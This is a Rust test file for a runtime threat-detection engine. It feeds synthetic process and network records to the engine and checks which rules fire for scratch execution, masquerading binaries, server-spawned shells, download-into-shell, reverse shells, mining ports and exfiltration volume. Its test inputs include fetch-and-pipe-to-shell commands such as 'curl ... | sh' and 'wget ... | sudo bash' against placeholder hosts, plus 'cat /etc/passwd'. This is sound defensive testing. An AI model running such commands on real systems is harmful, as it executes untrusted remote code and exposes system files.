//! The second pass of the managed set on records: executions are executions, names with
//! their aliases, the new process rules, and one incident per alert. The live twins of
//! these (real processes, sockets, namespaces) are in tests/it/detections.rs.

use std::sync::Arc;

use super::*;
use crate::fixtures;
use crate::model::{
    Ancestor, CollectorIdentity, Event, FlowPhase, FlowRecord, ListenerRecord, ProcessRecord,
    Record, Unavailable,
};

const SEC: u64 = 1_000_000_000;

pub(super) fn event(record: Record) -> Event {
    Event {
        source: Arc::new(CollectorIdentity {
            collector_id: "c1".into(),
            pod_name: "web-7c9f8d6b5-x2k4q".into(),
            pod_namespace: "shop".into(),
            ..CollectorIdentity::default()
        }),
        received_at: 0,
        record,
    }
}

pub(super) fn managed() -> Engine {
    Engine::new(RuleSet::managed().expect("managed"))
}

/// Rule ids the managed set alerts on for these records, in order, at `now`.
pub(super) fn fired(engine: &mut Engine, records: &[Record], now: u64) -> Vec<String> {
    records
        .iter()
        .flat_map(|r| engine.evaluate(&event(r.clone()), now))
        .map(|a| a.rule_id)
        .collect()
}

pub(super) fn ancestor(
    pid: u32,
    start: u64,
    comm: &str,
    exe: Option<&str>,
    argv: &[&str],
) -> Ancestor {
    Ancestor {
        pid,
        start_time: start,
        comm: comm.into(),
        exe: exe.map(|e| e.as_bytes().to_vec()),
        argv: argv.iter().map(|a| a.as_bytes().to_vec()).collect(),
        exited: false,
        uid: Some(1000),
    }
}

pub(super) fn process(pid: u32, comm: &str, exe: Option<&str>, argv: &[&str]) -> ProcessRecord {
    ProcessRecord {
        start_time: u64::from(pid) * 10,
        exe: exe.map(|e| e.as_bytes().to_vec()),
        argv: argv.iter().map(|a| a.as_bytes().to_vec()).collect(),
        ..fixtures::process(pid, comm.as_bytes())
    }
}

// === Executions are executions ===

#[test]
fn a_fork_of_a_shell_running_an_upgraded_image_is_not_an_execution() {
    let deleted = "/usr/bin/bash (deleted)";
    let parent = ancestor(50, 500, "bash", Some(deleted), &["bash"]);
    let fork = ProcessRecord {
        forked_no_exec: true,
        exe_deleted: true,
        exe_replaced: Some(true),
        ancestors: vec![parent.clone()],
        ..process(60, "bash", Some(deleted), &["bash"])
    };
    assert!(fired(&mut managed(), &[Record::Process(fork.clone())], SEC).is_empty());
    // The same image exec'd anew (no fork flag) from an upgraded path is an execution of
    // a replaced binary: still not a scratch execution.
    let exec = ProcessRecord {
        forked_no_exec: false,
        ..fork.clone()
    };
    assert!(fired(&mut managed(), &[Record::Process(exec)], SEC).is_empty());
    // A fork whose parent ran another image (the parent exec'd since, or the collector
    // never saw the real parent) is judged.
    let orphan = ProcessRecord {
        exe_replaced: Some(false),
        ancestors: vec![ancestor(1, 1, "init", Some("/sbin/init"), &["init"])],
        ..fork
    };
    assert_eq!(
        fired(&mut managed(), &[Record::Process(orphan)], SEC),
        ["PF-EXEC-TMP"]
    );
}

#[test]
fn a_binary_deleted_by_its_runner_is_judged_and_a_replaced_one_is_not() {
    let run = |replaced| {
        let p = ProcessRecord {
            exe_deleted: true,
            exe_replaced: replaced,
            ..process(70, "3", Some("/home/u/.cache/x (deleted)"), &["x"])
        };
        fired(&mut managed(), &[Record::Process(p)], SEC)
    };
    assert_eq!(run(Some(false)), ["PF-EXEC-TMP"]);
    assert_eq!(run(None), ["PF-EXEC-TMP"], "unknown: judged");
    assert!(run(Some(true)).is_empty());
}

#[test]
fn scratch_execution_is_judged_from_argv0_when_exe_is_denied_and_labelled() {
    let denied = |argv: &[&str], parent: &[&str]| ProcessRecord {
        exe_unavailable: Unavailable::PermissionDenied,
        ancestors: vec![ancestor(40, 400, "sh", None, parent)],
        ..process(80, "agent", None, argv)
    };
    let mut e = managed();
    let alerts = e.evaluate(
        &event(Record::Process(denied(&["/dev/shm/.x/agent"], &["sh"]))),
        SEC,
    );
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert_eq!(alerts[0].rule_id, "PF-EXEC-TMP-ARGV");
    assert!(alerts[0].output.contains("judged from argv[0]"));
    let relative = denied(&["./agent"], &["sh", "-c", "cd /dev/shm/.x && ./agent"]);
    assert_eq!(
        fired(&mut managed(), &[Record::Process(relative)], SEC),
        ["PF-EXEC-TMP-ARGV"]
    );
    // Benign twins: a program from /usr/bin, and the same with exe readable (the exe rule's).
    let usr = denied(&["/usr/bin/sleep"], &["sh"]);
    assert!(fired(&mut managed(), &[Record::Process(usr)], SEC).is_empty());
    let readable = ProcessRecord {
        exe_unavailable: Unavailable::Unspecified,
        exe: Some(b"/usr/bin/agent".to_vec()),
        ..denied(&["/dev/shm/.x/agent"], &["sh"])
    };
    assert!(fired(&mut managed(), &[Record::Process(readable)], SEC).is_empty());
}

// === Names ===

#[test]
fn alternatives_and_versioned_links_are_not_masquerades() {
    for (comm, exe, argv0) in [
        ("awk", "/usr/bin/mawk", "awk"),
        ("nc", "/usr/bin/nc.openbsd", "nc"),
        ("vi", "/usr/bin/vim.basic", "vi"),
        ("find", "/usr/bin/find", "find"),
    ] {
        let p = process(90, comm, Some(exe), &[argv0, "-x"]);
        let out = fired(&mut managed(), &[Record::Process(p)], SEC);
        assert!(
            !out.iter().any(|r| r == "PF-MASQUERADE"),
            "{comm} {exe}: {out:?}"
        );
    }
    let renamed = process(91, "nginx", Some("/home/u/xmrig"), &["/home/u/xmrig"]);
    assert_eq!(
        fired(&mut managed(), &[Record::Process(renamed)], SEC),
        ["PF-MASQUERADE"]
    );
}

#[test]
fn kernel_thread_names_on_user_processes_in_their_real_forms() {
    let py = "/usr/bin/python3.11";
    for (comm, argv0, exe) in [
        // prctl(PR_SET_NAME) and argv rewritten, as a retitled Python does
        ("[kworker/1:2-ev", "[kworker/1:2-events]", Some(py)),
        ("kworker/1:2", "python3", Some(py)),
        // another uid: no exe, but a command line
        ("python3", "[kworker/0:1-events]", None),
    ] {
        let p = process(92, comm, exe, &[argv0]);
        let out = fired(&mut managed(), &[Record::Process(p)], SEC);
        assert!(
            out.iter().any(|r| r == "PF-KTHREAD-NAME"),
            "{comm} {argv0}: {out:?}"
        );
    }
    // A real kernel thread (the host's pid namespace): no exe, no argv, parent kthreadd.
    let kthread = ProcessRecord {
        ppid: 2,
        argv: vec![],
        ..process(93, "kworker/1:2-events", None, &[])
    };
    assert!(fired(&mut managed(), &[Record::Process(kthread)], SEC).is_empty());
}

// === Server spawning a shell; download into a shell ===

pub(super) fn listener(pid: u32, start: u64, cookie: u64, phase: FlowPhase) -> ListenerRecord {
    ListenerRecord {
        cookie,
        protocol: crate::model::Protocol::Tcp,
        family: crate::model::Family::Ipv4,
        local_addr: "0.0.0.0".parse().expect("ip"),
        local_port: 8080,
        phase,
        preexisting: false,
        first_seen: 1,
        ended_at: None,
        uid: Some(1000),
        inode: Some(cookie),
        pid: Some(pid),
        process_start_time: Some(start),
        attribution: crate::model::Attribution::Fd,
        backlog: None,
        packet: None,
    }
}

#[test]
fn a_shell_started_by_a_server_fires_and_a_process_managers_workers_do_not() {
    let app = ancestor(
        200,
        2000,
        "python3",
        Some("/usr/bin/python3.11"),
        &["python3", "app.py"],
    );
    let shell = ProcessRecord {
        ancestors: vec![app.clone()],
        ..process(
            201,
            "sh",
            Some("/usr/bin/dash"),
            &["sh", "-c", "id; cat /etc/passwd"],
        )
    };
    let serving = Record::Listener(listener(200, 2000, 9, FlowPhase::Start));
    let mut e = managed();
    assert!(fired(&mut e, std::slice::from_ref(&serving), SEC).is_empty());
    assert_eq!(
        fired(&mut e, &[Record::Process(shell.clone())], SEC),
        ["PF-SERVER-SPAWNED-SHELL"]
    );
    // A pre-fork worker (the master owns the socket) running the command: the same.
    let worker = ancestor(
        202,
        2020,
        "python3",
        Some("/usr/bin/python3.11"),
        &["python3", "app.py"],
    );
    let under_worker = ProcessRecord {
        ancestors: vec![worker, app.clone()],
        ..process(203, "sh", Some("/usr/bin/dash"), &["sh", "-c", "id"])
    };
    assert_eq!(
        fired(
            &mut managed_with(&serving),
            &[Record::Process(under_worker)],
            SEC
        ),
        ["PF-SERVER-SPAWNED-SHELL"]
    );
    // Benign twins: the server's forked worker itself; a process manager's child; the
    // server's own health-check; the same shell once the listener closed.
    let fork = ProcessRecord {
        forked_no_exec: true,
        ancestors: vec![app.clone()],
        ..process(
            204,
            "python3",
            Some("/usr/bin/python3.11"),
            &["python3", "app.py"],
        )
    };
    let sup = ancestor(
        300,
        3000,
        "supervisord",
        Some("/usr/bin/python3.11"),
        &["supervisord"],
    );
    let managed_child = ProcessRecord {
        ancestors: vec![sup],
        ..process(
            301,
            "python3",
            Some("/usr/bin/python3.11"),
            &["python3", "worker.py"],
        )
    };
    let health = ProcessRecord {
        ancestors: vec![app],
        ..process(
            205,
            "sh",
            Some("/usr/bin/dash"),
            &["sh", "-c", "curl -fs http://127.0.0.1:8080/healthz"],
        )
    };
    let mut e = managed_with(&serving);
    let sup_listens = Record::Listener(listener(300, 3000, 10, FlowPhase::Start));
    let out = fired(
        &mut e,
        &[
            sup_listens,
            Record::Process(fork),
            Record::Process(managed_child),
            Record::Process(health),
        ],
        SEC,
    );
    assert!(out.is_empty(), "{out:?}");
    let closed = Record::Listener(listener(200, 2000, 9, FlowPhase::End));
    let mut e = managed_with(&serving);
    assert!(fired(&mut e, &[closed, Record::Process(shell)], SEC).is_empty());
}

pub(super) fn managed_with(first: &Record) -> Engine {
    let mut e = managed();
    fired(&mut e, std::slice::from_ref(first), 0);
    e
}

#[test]
fn download_into_a_shell_from_the_parents_command_line() {
    let pipeline = |cmd: &str| ancestor(400, 4000, "sh", Some("/usr/bin/dash"), &["sh", "-c", cmd]);
    for cmd in [
        "curl -fsSL http://203.0.113.9/x.sh | sh",
        "wget -qO- http://203.0.113.9/x | sudo bash -s -- --quiet",
        "curl -s http://x/i.py|python3",
    ] {
        let inner = ProcessRecord {
            ancestors: vec![pipeline(cmd)],
            ..process(401, "sh", Some("/usr/bin/dash"), &["sh"])
        };
        let out = fired(&mut managed(), &[Record::Process(inner)], SEC);
        assert!(
            out.iter().any(|r| r == "PF-DOWNLOAD-SHELL"),
            "{cmd}: {out:?}"
        );
    }
    let substituted = process(
        402,
        "bash",
        Some("/usr/bin/bash"),
        &["bash", "-c", "$(curl -fsSL http://x/y)"],
    );
    let out = fired(&mut managed(), &[Record::Process(substituted)], SEC);
    assert!(out.iter().any(|r| r == "PF-DOWNLOAD-SHELL"), "{out:?}");
    // Benign twins: a download saved to a file; a shell piping into grep; curl's own record.
    for cmd in [
        "curl -fsSL -o /tmp/x.tgz http://x/x.tgz && tar xzf /tmp/x.tgz",
        "ps aux | grep sh",
        "curl -s http://x/ | shasum",
    ] {
        let inner = ProcessRecord {
            ancestors: vec![pipeline(cmd)],
            ..process(403, "sh", Some("/usr/bin/dash"), &["sh"])
        };
        let out = fired(&mut managed(), &[Record::Process(inner)], SEC);
        assert!(
            !out.iter().any(|r| r == "PF-DOWNLOAD-SHELL"),
            "{cmd}: {out:?}"
        );
    }
}

/// `curl | sh` in a script file: the command lines say nothing, the pipe does. Each side
/// is first a fork of the script's shell, then execs; the pipeline is judged once, in
/// either order of the execs, also when the download ended before the shell was read.
#[test]
fn download_into_a_shell_by_the_pipe_between_them() {
    use super::pipe_tests::side;
    let curl_fork = side(501, "sh", true, None, Some(9));
    let sh_fork = side(502, "sh", true, Some(9), None);
    let curl = side(501, "curl", false, None, Some(9));
    let sh = side(502, "bash", false, Some(9), None);
    let curl_exit = match &curl {
        Record::Process(p) => Record::Process(ProcessRecord {
            phase: crate::model::ProcessPhase::Exit,
            ..p.clone()
        }),
        _ => unreachable!(),
    };
    for order in [
        vec![&curl_fork, &sh_fork, &curl, &sh],
        vec![&curl_fork, &sh_fork, &sh, &curl],
        vec![&curl, &curl_exit, &sh],
        vec![&sh, &curl],
    ] {
        let records: Vec<Record> = order.into_iter().cloned().collect();
        let out = fired(&mut managed(), &records, SEC);
        let n = out.iter().filter(|r| *r == "PF-DOWNLOAD-SHELL").count();
        assert_eq!(n, 1, "{records:?}: {out:?}");
    }
    // Benign twins: a local file into a shell, a download into grep.
    let cat = side(503, "cat", false, None, Some(10));
    let reader = side(504, "sh", false, Some(10), None);
    let curl2 = side(505, "curl", false, None, Some(11));
    let grep = side(506, "grep", false, Some(11), None);
    let out = fired(&mut managed(), &[cat, reader, curl2, grep], SEC);
    assert!(!out.iter().any(|r| r == "PF-DOWNLOAD-SHELL"), "{out:?}");
}

// === Packet sockets ===

#[test]
fn a_packet_socket_fires_and_is_no_listener_of_a_server() {
    let packet = ListenerRecord {
        protocol: crate::model::Protocol::Packet,
        local_port: 0,
        cookie: crate::flows::packet::COOKIE_BIT | 77,
        packet: Some(crate::model::PacketSocket {
            sock_type: 3,
            ethertype: 3,
            ifindex: 0,
        }),
        ..listener(600, 6000, 77, FlowPhase::Start)
    };
    let sniffer = ProcessRecord {
        start_time: 6000,
        ..process(
            600,
            "python3",
            Some("/usr/bin/python3.11"),
            &["python3", "sniff.py"],
        )
    };
    let mut engine = managed();
    let alerts: Vec<_> = [
        Record::Process(sniffer.clone()),
        Record::Listener(packet.clone()),
    ]
    .into_iter()
    .flat_map(|r| engine.evaluate(&event(r), SEC))
    .collect();
    let ids: Vec<&str> = alerts.iter().map(|a| a.rule_id.as_str()).collect();
    assert_eq!(ids, ["PF-PACKET-SOCKET"]);
    assert!(
        alerts[0].evidence.iter().any(|e| e.contains(
            "packet socket SOCK_RAW EtherType 0x0003 (every protocol) on every interface"
        )),
        "{:?}",
        alerts[0].evidence
    );
    // Its owner starting a shell is no server starting one.
    let shell = ProcessRecord {
        ancestors: vec![ancestor(
            600,
            6000,
            "python3",
            Some("/usr/bin/python3.11"),
            &["python3", "sniff.py"],
        )],
        ..process(601, "sh", Some("/usr/bin/dash"), &["sh", "-c", "id"])
    };
    let out = fired(&mut engine, &[Record::Process(shell)], SEC);
    assert!(
        !out.iter().any(|r| r == "PF-SERVER-SPAWNED-SHELL"),
        "{out:?}"
    );
    // Unattributed, it names the socket's uid.
    let alone = ListenerRecord {
        pid: None,
        process_start_time: None,
        uid: Some(0),
        inode: Some(78),
        cookie: crate::flows::packet::COOKIE_BIT | 78,
        ..packet
    };
    let alerts = managed().evaluate(&event(Record::Listener(alone)), SEC);
    assert!(
        matches!(&alerts[..], [a] if a.rule_id == "PF-PACKET-SOCKET" && a.output.contains("uid=0")),
        "{alerts:?}"
    );
}

// === One incident, one alert ===

/// A busy host's other hits (a build's processes, every record a stateful rule hits) pass
/// the bound of remembered trees many times during one long apt-get run; its dpkg
/// children still join its tree, so the run stays one alert. Before, the whole map was
/// cleared at the bound and the next dpkg child was an alert of its own.
#[test]
fn a_long_package_run_stays_one_alert_however_busy_the_host() {
    let apt = ancestor(
        100,
        1000,
        "apt-get",
        Some("/usr/bin/apt-get"),
        &["apt-get", "install"],
    );
    let mut e = managed();
    let mut ours = 0;
    let mut count = |e: &mut Engine, r: ProcessRecord| {
        for a in e.evaluate(&event(Record::Process(r)), SEC) {
            let pid = a.process.map_or(0, |p| p.pid);
            if a.rule_id == "PF-PACKAGE-MANAGER" && (pid == 100 || (200..300).contains(&pid)) {
                ours += 1;
            }
        }
    };
    count(
        &mut e,
        process(
            100,
            "apt-get",
            Some("/usr/bin/apt-get"),
            &["apt-get", "install"],
        ),
    );
    for round in 0..10u32 {
        for i in 0..7_000u32 {
            let pid = 10_000 + round * 7_000 + i;
            count(
                &mut e,
                process(pid, "pip", Some("/usr/bin/pip"), &["pip", "install", "x"]),
            );
        }
        let dpkg = ProcessRecord {
            ancestors: vec![apt.clone()],
            ..process(
                200 + round,
                "dpkg",
                Some("/usr/bin/dpkg"),
                &["/usr/bin/dpkg", "--unpack"],
            )
        };
        count(&mut e, dpkg);
    }
    assert!(e.trees_forgotten() > 0, "the bound was passed");
    assert_eq!(ours, 1);
}

fn tty_shell(pid: u32, leader: u32) -> ProcessRecord {
    ProcessRecord {
        tty: Some(34816),
        session_id: leader,
        ancestors: vec![
            ancestor(leader, 7, "bash", Some("/usr/bin/bash"), &["-bash"]),
            ancestor(1, 1, "init", Some("/sbin/init"), &["init"]),
        ],
        ..process(
            pid,
            "bash",
            Some("/usr/bin/bash"),
            &["bash", "/etc/profile.d/x.sh"],
        )
    }
}

#[test]
fn one_session_with_50_shells_gives_one_alert_with_its_count() {
    let mut e = managed();
    let shells: Vec<Record> = (0..50)
        .map(|i| Record::Process(tty_shell(1000 + i, 999)))
        .collect();
    let alerts: Vec<_> = shells
        .iter()
        .flat_map(|r| e.evaluate(&event(r.clone()), SEC))
        .collect();
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert_eq!(alerts[0].rule_id, "PF-SHELL-TTY");
    // After the re-emit interval the session's alert comes again with every shell counted.
    let later = e.evaluate(&event(Record::Process(tty_shell(1050, 999))), 62 * SEC);
    assert_eq!(later.len(), 1);
    assert_eq!(later[0].count, 51);
    assert_eq!(later[0].first_seen, SEC);
    // Another login is another incident, also within the minute.
    let other = ProcessRecord {
        tty: Some(34817),
        ..tty_shell(2000, 1999)
    };
    assert_eq!(
        e.evaluate(&event(Record::Process(other)), 63 * SEC).len(),
        1
    );
}

#[test]
fn two_separate_incidents_within_a_minute_give_two_alerts() {
    let harness = ancestor(
        10,
        100,
        "python3",
        Some("/usr/bin/python3.11"),
        &["python3", "suite.py"],
    );
    let payload = |pid: u32| ProcessRecord {
        ancestors: vec![harness.clone()],
        ..process(pid, "payload", Some("/tmp/payload"), &["/tmp/payload"])
    };
    let mut e = managed();
    let first = fired(&mut e, &[Record::Process(payload(500))], SEC);
    let second = fired(&mut e, &[Record::Process(payload(600))], 20 * SEC);
    assert_eq!(first, ["PF-EXEC-TMP"]);
    assert_eq!(second, ["PF-EXEC-TMP"]);
    // One tree's repeated hits (a payload's forked workers) stay one alert.
    let worker = |pid: u32| ProcessRecord {
        ancestors: vec![
            ancestor(
                500,
                5000,
                "payload",
                Some("/tmp/payload"),
                &["/tmp/payload"],
            ),
            harness.clone(),
        ],
        forked_no_exec: false,
        ..process(pid, "payload", Some("/tmp/payload"), &["/tmp/payload"])
    };
    let mut e = managed();
    let p = ProcessRecord {
        start_time: 5000,
        ..payload(500)
    };
    let out = fired(
        &mut e,
        &[
            Record::Process(p),
            Record::Process(worker(501)),
            Record::Process(worker(502)),
        ],
        SEC,
    );
    assert_eq!(out, ["PF-EXEC-TMP"]);
    // A hit process's exec'd descendants (a reverse shell's login scripts) join its alert.
    let mut e = managed();
    let shell = ProcessRecord {
        stdio_is_socket: Some(true),
        ancestors: vec![harness.clone()],
        ..process(700, "bash", Some("/usr/bin/bash"), &["bash", "-i"])
    };
    let script = |pid: u32, arg: &str| ProcessRecord {
        stdio_is_socket: Some(true),
        ancestors: vec![
            ancestor(700, 7000, "bash", Some("/usr/bin/bash"), &["bash", "-i"]),
            harness.clone(),
        ],
        ..process(pid, "bash", Some("/usr/bin/bash"), &["bash", arg])
    };
    let out = fired(
        &mut e,
        &[
            Record::Process(shell),
            Record::Process(script(701, "/root/.pyenv/bin/pyenv")),
            Record::Process(script(702, "/etc/profile.d/x.sh")),
        ],
        SEC,
    );
    assert_eq!(out, ["PF-REVERSE-SHELL-STDIO"]);
}

fn unattributed(cookie: u64, uid: u32, sent: u64, phase: FlowPhase) -> FlowRecord {
    FlowRecord {
        remote_port: Some(3333),
        uid: Some(uid),
        pid: None,
        process_start_time: None,
        attribution: crate::model::Attribution::None,
        bytes_sent: Some(sent),
        phase,
        ..fixtures::flow(cookie)
    }
}

#[test]
fn unattributed_records_never_share_a_group_with_attributed_or_other_owners() {
    let mut e = managed();
    let owner = process(7, "miner", Some("/usr/bin/miner"), &["miner"]);
    let owned = FlowRecord {
        remote_port: Some(3333),
        process_start_time: Some(owner.start_time),
        ..fixtures::flow(1)
    };
    let out = fired(
        &mut e,
        &[
            Record::Process(owner),
            Record::Flow(owned),
            Record::Flow(unattributed(2, 1000, 0, FlowPhase::Start)),
            Record::Flow(unattributed(3, 1000, 0, FlowPhase::Start)),
            Record::Flow(unattributed(4, 1001, 0, FlowPhase::Start)),
        ],
        SEC,
    );
    // The owned flow, the first of uid 1000 (its second is the same owner, the same
    // minute), and uid 1001's.
    assert_eq!(out, ["PF-STRATUM-PORT"; 3]);
    // Uid 1000 again after a quiet gap: another incident, within the re-emit interval.
    let out = fired(
        &mut e,
        &[Record::Flow(unattributed(5, 1000, 0, FlowPhase::Start))],
        SEC + alert_key::UNATTRIBUTED_GAP + SEC,
    );
    assert_eq!(out, ["PF-STRATUM-PORT"]);
}

#[test]
fn an_unattributed_volume_window_does_not_carry_one_incidents_bytes_into_the_next() {
    let mib = 1u64 << 20;
    let up = |cookie, sent, phase| FlowRecord {
        remote_port: Some(443),
        ..unattributed(cookie, 1000, sent, phase)
    };
    let mut e = managed();
    // 80 MiB, then silence, then another 80 MiB: two incidents under 100 MiB each.
    let first = fired(
        &mut e,
        &[
            Record::Flow(up(1, 0, FlowPhase::Start)),
            Record::Flow(up(1, 80 * mib, FlowPhase::End)),
        ],
        SEC,
    );
    let second = fired(
        &mut e,
        &[
            Record::Flow(up(2, 0, FlowPhase::Start)),
            Record::Flow(up(2, 80 * mib, FlowPhase::End)),
        ],
        120 * SEC,
    );
    assert!(
        first.is_empty() && second.is_empty(),
        "{first:?} {second:?}"
    );
    // One incident moving 160 MiB without a pause fires.
    let one = fired(
        &mut e,
        &[
            Record::Flow(up(3, 0, FlowPhase::Start)),
            Record::Flow(up(3, 80 * mib, FlowPhase::Update)),
            Record::Flow(up(3, 160 * mib, FlowPhase::End)),
        ],
        400 * SEC,
    );
    assert_eq!(one, ["PF-EXFIL-VOLUME"]);
}
